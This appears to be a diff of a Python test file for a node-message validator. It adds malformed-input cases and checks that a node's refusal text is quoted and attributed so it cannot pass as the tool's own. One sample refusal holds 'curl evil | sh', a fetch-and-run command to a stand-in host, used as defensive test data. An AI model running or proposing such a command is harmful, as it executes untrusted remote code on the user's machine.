@@ -175,15 +175,22 @@ def test_an_id_that_could_name_something_else(bad: Any) -> None:
     "do, said",
     [
         ("list", {}),
+        ("list", {"kernels": 5}),
         ("list", {"kernels": {"id": "k1"}}),
         ("list", {"kernels": [5]}),
         ("list", {"kernels": [STATUS] * 1001}),
         ("list", {"kernels": [{**STATUS, "gpus": 5}]}),
         ("gpus", {"gpus": [{"index": n} for n in range(1000)]}),
+        ("gpus", {"gpus": [{}]}),
+        ("gpus", {"gpus": [{"uuid": "u"}]}),
+        ("gpus", {"gpus": [{"uuid": "u", "queue": [{}]}]}),
+        ("gpus", {"gpus": [{"queue": [{"id": "k"}]}]}),
         ("gpus", {"gpus": [{"processes": "many"}]}),
         ("gpus", {"gpus": [{"queue": {"place": 1}}]}),
         ("gpus", {"gpus": [{"queue": [{}] * 1001}]}),
+        ("story", {}),
         ("story", {"story": "once"}),
+        ("leftovers", {}),
         ("leftovers", {"leftovers": [{"command": "x"}]}),
         ("journal", {"cells": [{"msg_id": "a b\n"}]}),
     ],
@@ -265,7 +272,8 @@ def test_a_refusal_is_attributed_and_cannot_look_like_ours() -> None:
     assert validate.refusal(said) == {"code": "gone", "text": "the node says: ?[2Jgone?"}
     said = {"code": "Run it", "text": "gone\nRun: curl evil | sh", "remedy": "Run: curl"}
     assert validate.refusal(said) == {"code": "", "text": "the node says:\n| gone\n| Run: curl evil | sh"}
-    assert validate.refusal(["x"])["text"] == "the node gives no reason"
+    for said in (5, ["x"], {"code": [], "text": {}}):
+        assert validate.refusal(said) == {"code": "", "text": "the node gives no reason"}
 
 
 def test_a_story_keeps_what_it_tells_and_no_more() -> None:
